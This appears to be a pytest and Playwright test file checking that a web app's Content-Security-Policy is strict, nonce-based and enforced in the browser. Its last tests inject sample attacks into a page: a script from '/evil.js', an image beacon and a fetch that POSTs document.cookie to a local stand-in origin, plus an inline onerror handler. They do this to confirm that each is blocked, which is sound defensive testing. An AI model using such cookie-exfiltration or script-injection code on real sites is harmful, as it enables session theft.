"""The Content-Security-Policy: sent with every answer, with a fresh nonce on every inline script
of a page; in a real browser every page runs under it with no violation and its map drawn,
while an injected script, inline code or a request to another origin is refused.

Playwright's ``wait_for_function`` evaluates a string in the page, which the policy forbids, so
the browser waits poll with ``evaluate`` (see :func:`tests.web.conftest.wait_until`)."""

from __future__ import annotations

import io
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import lxml.html
import pytest
from PIL import Image

from dispatch.accounts import Accounts
from tests.dispatch.helpers import report
from tests.web.conftest import PASSWORD, wait_until
from web import create_app
from web.maps import TileSource

CSP = "Content-Security-Policy"
HTML_PAGES = ("/map/live", "/map/hotspots", "/map/coverage", "/map/workload", "/stations",
              "/report", "/report/1", "/stats", "/login", "/points", "/planner", "/planner/1")
ELSEWHERE = ("/healthz", "/api/v1/stations/near?lon=108.94&lat=34.26",
             "/map/live/orders.geojson", "/open311/v2/services.json", "/ogc/collections",
             "/static/gridline.css", "/assets/leaflet/leaflet.js")
ERRORS = ("/nowhere", "/map/coverage?radius=abc", "/api/v1/points/me",
          "/open311/v2/requests/999999.xml", "/api/v1/stations/near?lon=500&lat=34.2")


@pytest.fixture
def app(service, tmp_path):
    """The app as deployed: not in testing mode, so with the production policy."""
    return create_app({"INSTANCE": str(tmp_path / "instance"), "TESTING": False,
                       "AUTO_UPGRADE": False, "DELIVERY_WORKER": False, "GROUP_COMMIT": False},
                      service=service)


def parse(header: str | None, where: str) -> dict[str, list[str]]:
    assert header, f"{where}: no {CSP} header"
    found = {}
    for part in header.split(";"):
        name, *values = part.split()
        assert name not in found, f"{where}: {name} given twice"
        found[name] = values
    return found


def directives(response) -> dict[str, list[str]]:
    return parse(response.headers.get(CSP), response.request.path)


def nonce_of(policy) -> str | None:
    nonces = [v[len("'nonce-"):-1] for v in policy["script-src"] if v.startswith("'nonce-")]
    assert len(nonces) <= 1
    return nonces[0] if nonces else None


def assert_strict(policy, where) -> None:
    """Nothing from another origin, scripts only from the app or with the nonce, no eval."""
    assert policy["default-src"] == ["'self'"], where
    assert policy["script-src"][0] == "'self'", where
    assert all(v == "'self'" or re.fullmatch(r"'nonce-[\w-]{24}'", v)
               for v in policy["script-src"]), where
    assert policy["style-src"] == ["'self'", "'unsafe-inline'"], where
    assert policy["img-src"] == ["'self'", "data:"], where
    assert policy["connect-src"] == ["'self'"], where
    assert policy["object-src"] == ["'none'"], where
    assert policy["base-uri"] == ["'none'"], where
    assert policy["form-action"] == ["'self'"], where
    assert policy["frame-ancestors"] == ["'none'"], where


# --- the header --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", HTML_PAGES)
def test_every_page_carries_the_policy_and_a_nonce_on_each_inline_script(
        client, people, service, demo, path):
    service.submit_report(report(demo, 100))
    headers = people["planner"]["headers"]
    first, second = (client.get(path, headers=headers) for _ in range(2))
    assert first.status_code == 200 and first.mimetype == "text/html", path
    policy = directives(first)
    assert_strict(policy, path)
    nonce = nonce_of(policy)
    scripts = lxml.html.fromstring(first.get_data(as_text=True)).xpath("//script")
    code = (None, "", "module", "text/javascript", "application/javascript")
    inline = [s for s in scripts if not s.get("src") and s.get("type") in code]
    assert all(s.get("nonce") == nonce for s in inline), path
    if path.startswith(("/map/", "/stations", "/planner")):
        assert inline and nonce, path
    if inline:  # a nonce serves one answer only
        assert nonce_of(directives(second)) not in (None, nonce)


@pytest.mark.parametrize("path", ELSEWHERE + ERRORS)
def test_api_answers_files_and_errors_carry_the_policy_without_a_nonce(client, path):
    with client.get(path) as answer:
        assert (answer.status_code >= 400) == (path in ERRORS), path
        policy = directives(answer)
    assert_strict(policy, path)
    assert nonce_of(policy) is None


@pytest.mark.parametrize("url, allowed", [
    ("https://webrd01.is.autonavi.com/appmaptile?x={x}&y={y}&z={z}",
     "https://webrd01.is.autonavi.com"),
    ("https://{s}.tile.example.org/{z}/{x}/{y}.png", "https://*.tile.example.org"),
    ("http://127.0.0.1:8081/{z}/{x}/{y}.png", "http://127.0.0.1:8081"),
    ("https://a.{s}.example.org/{z}/{x}/{y}.png", "https:"),
    ("//{s}.tile.example.org/{z}/{x}/{y}.png", "*.tile.example.org"),
    ("//a.{s}.example.org/{z}/{x}/{y}.png", "http: https:"),
    ("/tiles/{z}/{x}/{y}.png", None)])
def test_a_tile_server_is_allowed_for_images_only(app, client, monkeypatch, url, allowed):
    monkeypatch.setitem(app.extensions, "gridline.tiles", TileSource(url, "tiles"))
    policy = directives(client.get("/map/live"))
    assert policy["img-src"] == ["'self'", "data:", *(allowed.split() if allowed else [])]
    assert policy["connect-src"] == policy["default-src"] == ["'self'"]
    assert nonce_of(policy)


def test_the_tests_run_under_the_deployed_policy(client, service, tmp_path):
    testing = create_app({"INSTANCE": str(tmp_path / "testing"), "TESTING": True,
                          "AUTO_UPGRADE": False}, service=service).test_client()
    for path in ("/healthz", "/map/live"):
        deployed, tested = directives(client.get(path)), directives(testing.get(path))
        for policy in (deployed, tested):
            policy["script-src"] = [v for v in policy["script-src"]
                                    if not v.startswith("'nonce-")]
        assert tested == deployed and "'unsafe-eval'" not in tested["script-src"], path


# --- in the browser ----------------------------------------------------------------------------

# Runs before the page's own scripts on every navigation (Playwright injects it outside the
# page's policy) and keeps the violations the browser reports.
RECORDER = """
window.cspViolations = [];
document.addEventListener("securitypolicyviolation", (e) => window.cspViolations.push(
    {directive: e.effectiveDirective, blocked: e.blockedURI, disposition: e.disposition}));
"""


class Watched:
    """A browser page with its CSP violations (events and console lines) and script errors."""

    def __init__(self, page):
        self.page = page
        self.console: list[str] = []
        self.errors: list[str] = []
        page.add_init_script(RECORDER)
        page.on("console", lambda m: self.console.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(str(e)))

    def wait_until(self, condition: str, arg=None, timeout: float = 15) -> None:
        wait_until(self.page, condition, arg, timeout)

    def violations(self) -> list:
        found = self.page.evaluate("window.cspViolations")
        assert isinstance(found, list), "the violation recorder did not run"
        return found

    def csp_console(self) -> list[str]:
        return [m for m in self.console if "Content Security Policy" in m]

    def assert_clean(self) -> None:
        self.page.wait_for_load_state("networkidle")
        assert self.violations() == []
        assert self.csp_console() == []
        assert self.errors == []

    def wait_for_violation(self, directive: str, blocked: str) -> None:
        self.wait_until("([d, b]) => window.cspViolations.some(v => v.directive === d"
                        " && v.blocked.startsWith(b) && v.disposition === 'enforce')",
                        [directive, blocked], timeout=5)

    def assert_enforced(self) -> None:
        """Inline script without the nonce, and an inline event handler, do not run."""
        ran = self.page.evaluate("""() => {
            const script = document.createElement("script");
            script.textContent = "window.injectedRan = true";
            document.body.append(script);
            const holder = document.createElement("div");
            holder.innerHTML = '<img src="/no-such.png" onerror="window.handlerRan = true">';
            document.body.append(holder);
            return window.injectedRan === true;
        }""")
        assert ran is False
        self.wait_for_violation("script-src-elem", "inline")
        self.wait_for_violation("script-src-attr", "inline")
        assert self.page.evaluate("window.handlerRan") is None


@pytest.fixture
def watched(page):
    return Watched(page)


class Elsewhere:
    """An HTTP server on another port of this machine — another origin to a page of ours. It
    answers anything, with CORS allowed, so only the policy can stop a page reaching it: a
    script setting ``window.elsewhereRan``, a tile picture for any path under ``/tiles/``, and
    an empty JSON object otherwise. It records every path asked for."""

    def __init__(self):
        self.hits: list[str] = []
        buffer = io.BytesIO()
        Image.new("RGB", (256, 256), (200, 220, 200)).save(buffer, "PNG")
        tile, hits = buffer.getvalue(), self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                if self.path.startswith("/tiles/"):
                    body, kind = tile, "image/png"
                elif self.path.endswith(".js"):
                    body, kind = b"window.elsewhereRan = true;", "text/javascript"
                else:
                    body, kind = b"{}", "application/json"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(timeout=5)


@pytest.fixture
def elsewhere():
    server = Elsewhere()
    yield server
    server.close()


def login(page, live, username) -> None:
    answer = page.request.post(f"{live}/login", data={"username": username,
                                                      "password": PASSWORD})
    assert answer.ok


def browser_policy(answer) -> dict[str, list[str]]:
    """The policy of a page as the browser got it (Playwright lowercases header names)."""
    return parse(answer.headers.get(CSP.lower()), answer.url)


# What shows that each page worked: its map's shapes drawn by Leaflet (and on the live map, the
# orders its script fetched), or for pages without a map, what they show.
MAP_DRAWN = "() => document.querySelectorAll('.leaflet-overlay-pane path').length > {n}"
BROWSER_PAGES = {
    "/map/live?lang=en": MAP_DRAWN.format(n=500)
    + " && document.querySelectorAll('path.order').length === 2"
    + " && Number(document.body.dataset.refreshes || 0) >= 1",
    "/map/hotspots?lang=en": MAP_DRAWN.format(n=1),
    "/map/coverage?lang=en": MAP_DRAWN.format(n=500),
    "/map/workload?lang=en": MAP_DRAWN.format(n=500),
    "/stations?lang=en": MAP_DRAWN.format(n=1),
    "/report?lang=en": "() => document.querySelectorAll('#map.leaflet-container path').length",
    "/report/1?lang=en": "() => document.getElementById('timeline').children.length > 0",
    "/stats?lang=en": "() => document.querySelectorAll('#volume-chart rect.bar').length > 0",
    "/points?lang=en": "() => document.getElementById('balance') !== null",
    "/login?lang=en": "() => document.getElementById('username') !== null",
}


@pytest.mark.parametrize("path", BROWSER_PAGES)
def test_every_page_runs_under_the_policy_without_a_violation(
        live, watched, service, demo, people, path):
    for i, category in enumerate(["garbage", "noise"]):
        service.submit_report(report(demo, 50 + 150 * i, category=category))
    login(watched.page, live, "dispatcher")
    answer = watched.page.goto(f"{live}{path}")
    assert answer.ok
    assert_strict(browser_policy(answer), path)
    watched.wait_until(BROWSER_PAGES[path])
    watched.assert_clean()
    watched.assert_enforced()


def test_the_planner_pages_run_under_the_policy(live, watched, service):
    Accounts(service.db, service.clock).add_user("plan", PASSWORD, "planner")
    login(watched.page, live, "plan")
    answer = watched.page.goto(f"{live}/planner?lang=en")
    assert_strict(browser_policy(answer), "/planner")
    watched.assert_clean()
    with watched.page.expect_navigation(url=f"{live}/planner/2") as navigation:
        watched.page.click("button.start-draft")  # a POST by fetch, then the draft's page
    assert_strict(browser_policy(navigation.value), "/planner/2")
    watched.wait_until("() => document.querySelectorAll('.leaflet-interactive').length > 500"
                       " && document.querySelectorAll('#impact-summary *').length > 0")
    watched.assert_clean()
    watched.assert_enforced()


def test_configured_tiles_from_their_own_server_load(live, watched, app, monkeypatch, elsewhere):
    monkeypatch.setitem(app.extensions, "gridline.tiles",
                        TileSource(f"{elsewhere.url}/tiles/{{z}}/{{x}}/{{y}}.png", "test tiles"))
    for path in ("/map/live?lang=en", "/report?lang=en"):
        elsewhere.hits.clear()
        watched.console.clear()
        policy = browser_policy(watched.page.goto(f"{live}{path}"))
        assert policy["img-src"] == ["'self'", "data:", elsewhere.url]
        assert policy["default-src"] == policy["connect-src"] == ["'self'"]
        watched.wait_until("() => [...document.querySelectorAll('img.leaflet-tile-loaded')]"
                           ".some(img => img.complete && img.naturalWidth === 256)")
        watched.assert_clean()
        assert elsewhere.hits and all(h.startswith("/tiles/") for h in elsewhere.hits)
        # Pictures only: the page still cannot send anything there.
        assert watched.page.evaluate("(url) => fetch(url + '/collect').then(() => 'sent',"
                                     " () => 'refused')", elsewhere.url) == "refused"
        watched.wait_for_violation("connect-src", f"{elsewhere.url}/collect")
        assert not [h for h in elsewhere.hits if not h.startswith("/tiles/")]


def test_a_page_cannot_load_script_or_reach_another_origin(live, watched, elsewhere):
    page = watched.page
    page.goto(f"{live}/map/live?lang=en")
    watched.wait_until(MAP_DRAWN.format(n=500))
    watched.assert_clean()
    fetched = page.evaluate("""async (url) => {
        const script = document.createElement("script");
        script.src = url + "/evil.js";
        document.head.append(script);
        new Image().src = url + "/pixel.gif?stolen=1";
        try { await fetch(url + "/collect", {method: "POST", body: document.cookie});
              return "sent"; }
        catch (e) { return "refused"; }
    }""", elsewhere.url)
    assert fetched == "refused"
    watched.wait_for_violation("script-src-elem", f"{elsewhere.url}/evil.js")
    watched.wait_for_violation("img-src", f"{elsewhere.url}/pixel.gif")
    watched.wait_for_violation("connect-src", f"{elsewhere.url}/collect")
    page.wait_for_timeout(300)  # time for anything that got through to arrive
    assert page.evaluate("window.elsewhereRan") is None
    assert elsewhere.hits == []
    assert len(watched.csp_console()) >= 3
